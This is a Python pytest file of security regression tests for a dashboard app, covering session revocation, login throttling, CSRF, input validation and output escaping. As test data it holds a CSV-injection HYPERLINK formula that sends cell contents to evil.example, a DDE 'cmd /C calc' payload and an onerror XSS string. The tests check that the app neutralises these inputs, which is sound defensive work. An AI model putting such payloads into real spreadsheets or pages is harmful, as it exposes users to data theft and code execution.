"""Requests that used to get a 500, a way round a check, or data they should not: each case here
was found by a review and confirmed with a request before it was fixed (docs/reliability.md)."""

from __future__ import annotations

import asyncio
import csv
import io

import httpx
import pytest

from dashboards.auth import LoginThrottle
from pipeline.store.users import update_user
from tests.dashboards.conftest import PASSWORD, As, Dash
from tests.pipeline.store.factories import make_result


@pytest.mark.parametrize(
    ("query", "says"),
    [
        ("since=2024-01-01T00:00:00", "since needs a time zone"),
        ("until=2024-01-01", "until needs a time zone"),
        ("since=9999-12-31T23:59:59-05:00", "out of range"),
        ("since=0001-01-01T00:00:00%2B05:00", "out of range"),
    ],
)
def test_a_date_without_zone_or_out_of_range_is_refused_with_why(dash: Dash, query: str, says: str) -> None:
    viewer, _ = dash.login("vera")
    for path in ("/api/defects", "/api/defects.csv"):
        resp = viewer.get(f"{path}?{query}")
        assert resp.status_code == 422, resp.text
        assert says in resp.json()["detail"]
    assert viewer.get("/api/defects?since=2024-01-01T00:00:00Z").status_code == 200


def test_a_csrf_header_with_non_ascii_characters_is_refused_not_a_crash(dash: Dash) -> None:
    operator, _ = dash.login("otto")
    for value in ("\xe9", "\xff"):
        resp = operator.post(
            "/api/defects/1/review",
            json={"decision": "confirmed"},
            headers={"X-CSRF-Token": value.encode("latin-1")},
        )
        assert resp.status_code == 403, resp.text


def test_a_logged_out_session_cookie_no_longer_works(dash: Dash) -> None:
    operator, csrf = dash.login("otto")
    copied = operator.cookie
    assert operator.post("/api/logout", headers={"X-CSRF-Token": csrf}).status_code == 204
    replay = As(dash.client, copied)
    assert replay.get("/api/session").status_code == 401
    review = {"json": {"decision": "rejected"}, "headers": {"X-CSRF-Token": csrf}}
    assert replay.post("/api/defects/2/review", **review).status_code == 401
    assert replay.get("/review", follow_redirects=False).status_code == 303
    again, _ = dash.login("otto")  # a new login works as before
    assert again.get("/api/session").status_code == 200


def test_a_logout_holds_on_every_dashboard_and_after_a_restart(dash: Dash, monkeypatch) -> None:
    """Revocations were kept in the dashboard process: behind a load balancer, a copied cookie
    still worked on the other dashboard, and on this one after a restart."""
    from fastapi.testclient import TestClient

    from dashboards import auth
    from dashboards.app import create_app

    monkeypatch.setattr(auth, "ACCOUNT_CACHE_S", 0.0)  # the other dashboard learns within this
    operator, csrf = dash.login("otto")
    copied = operator.cookie
    with TestClient(create_app(dash.settings, dash.redis_url, ["line-1"])) as other:
        assert As(other, copied).get("/api/session").status_code == 200
        assert operator.post("/api/logout", headers={"X-CSRF-Token": csrf}).status_code == 204
        assert As(other, copied).get("/api/session").status_code == 401
        assert As(other, copied).get("/review", follow_redirects=False).status_code == 303
    with TestClient(create_app(dash.settings, dash.redis_url, ["line-1"])) as restarted:
        assert As(restarted, copied).get("/api/session").status_code == 401
        again, _ = dash.login("otto")
        assert As(restarted, again.cookie).get("/api/session").status_code == 200


def test_a_disabled_account_gets_no_page(dash: Dash) -> None:
    viewer, _ = dash.login("vera")
    assert viewer.get("/", follow_redirects=False).status_code == 200
    update_user(dash.store, "vera", disabled=True)
    dash.client.app.state.sessions.forget("vera")  # type: ignore[attr-defined]
    for page in ("/", "/review", "/history", "/stations/line-1"):
        resp = viewer.get(page, follow_redirects=False)
        assert resp.status_code == 303 and resp.headers["location"].startswith("/login"), page


def test_parallel_password_guesses_are_throttled_like_sequential_ones() -> None:
    """The throttle was checked before the slow password check and the failure recorded after it:
    40 guesses sent at once all got a 401 and none a 429."""
    throttle = LoginThrottle(attempts=5)
    key = ("10.0.0.9", "ada")
    waits = [throttle.attempt(key) for _ in range(40)]  # all arrive before any check finishes
    assert waits[:5] == [0.0] * 5 and all(w > 0 for w in waits[5:])


async def test_parallel_logins_over_http_get_429s(dash: Dash) -> None:
    transport = httpx.ASGITransport(app=dash.client.app)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
        wrong = [
            client.post("/api/login", json={"username": "ada", "password": f"guess {i}"}) for i in range(12)
        ]
        codes = [r.status_code for r in await asyncio.gather(*wrong)]
    assert codes.count(401) == 5 and codes.count(429) == 7


def test_a_nul_character_is_refused_as_bad_input_on_every_database(dash: Dash) -> None:
    """PostgreSQL text cannot hold NUL: its DataError surfaced as a 500 on logins, notes and filters."""
    operator, csrf = dash.login("otto")
    login = dash.anon().post("/api/login", json={"username": "ada\x00", "password": PASSWORD})
    assert login.status_code in (401, 422), login.text
    note = operator.post(
        "/api/defects/1/review",
        json={"decision": "confirmed", "note": "a\x00b"},
        headers={"X-CSRF-Token": csrf},
    )
    assert note.status_code in (200, 422), note.text
    listing = operator.get("/api/defects?station=a%00b")
    assert listing.status_code in (200, 422), listing.text


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(dash: Dash) -> None:
    operator, csrf = dash.login("otto")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    resp = operator.post(
        "/api/defects/1/review",
        json={"decision": "confirmed", "defect_type": "+cmd|' /C calc'!A0", "note": formula},
        headers={"X-CSRF-Token": csrf},
    )
    assert resp.status_code == 200, resp.text
    rows = list(csv.DictReader(io.StringIO(operator.get("/api/defects.csv").text)))
    (row,) = [r for r in rows if r["review_state"] == "confirmed"]
    assert row["note"] == "'" + formula and row["defect_type"] == "'+cmd|' /C calc'!A0"
    assert float(row["score"]) > 0  # numbers stay numbers


def test_a_malformed_webrtc_offer_is_refused_and_leaves_no_viewer_behind(dash: Dash) -> None:
    viewer, csrf = dash.login("vera")
    head = "v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\ns=-\r\nt=0 0\r\n"
    offers = [
        head + "m=video x UDP/TLS/RTP/SAVPF 96\r\n",
        head + "m=video 9 UDP/TLS/RTP/SAVPF 96\r\nc=IN IP4 0.0.0.0\r\na=rtpmap:96 VP8/90000\r\n"
        "a=recvonly\r\na=mid:0\r\na=candidate:1\r\n",
    ]
    for sdp in offers:
        resp = viewer.post(
            "/api/stations/line-1/webrtc/offer",
            json={"sdp": sdp, "type": "offer"},
            headers={"X-CSRF-Token": csrf},
        )
        assert resp.status_code == 400, resp.text
    live = dash.client.app.state.live  # type: ignore[attr-defined]
    assert not live.peers and not live.encoders["line-1"].viewers


def test_a_station_id_from_a_stream_is_escaped_in_the_summary(dash: Dash) -> None:
    odd = "x' onerror='alert(1)"
    dash.store.record([make_result(odd, 1, flagged=True, frame_jpeg=b"")], {f"{odd}:1": ("a.jpg", "h.png")})
    viewer, _ = dash.login("vera")
    page = viewer.get("/parts/summary").text
    assert "onerror='alert(1)" not in page and "x&#x27; onerror=&#x27;alert(1)" in page


def test_a_password_change_ends_the_users_other_sessions(dash: Dash) -> None:
    from pipeline.store.users import set_password

    viewer, _ = dash.login("vera")
    bystander, _ = dash.login("otto")
    set_password(dash.store, "vera", "a brand new password")
    dash.client.app.state.sessions.forget("vera")  # type: ignore[attr-defined]
    assert viewer.get("/api/session").status_code == 401
    assert viewer.get("/", follow_redirects=False).status_code == 303
    assert bystander.get("/api/session").status_code == 200  # other users' sessions stand
    again = dash.anon().post("/api/login", json={"username": "vera", "password": "a brand new password"})
    assert again.status_code == 200
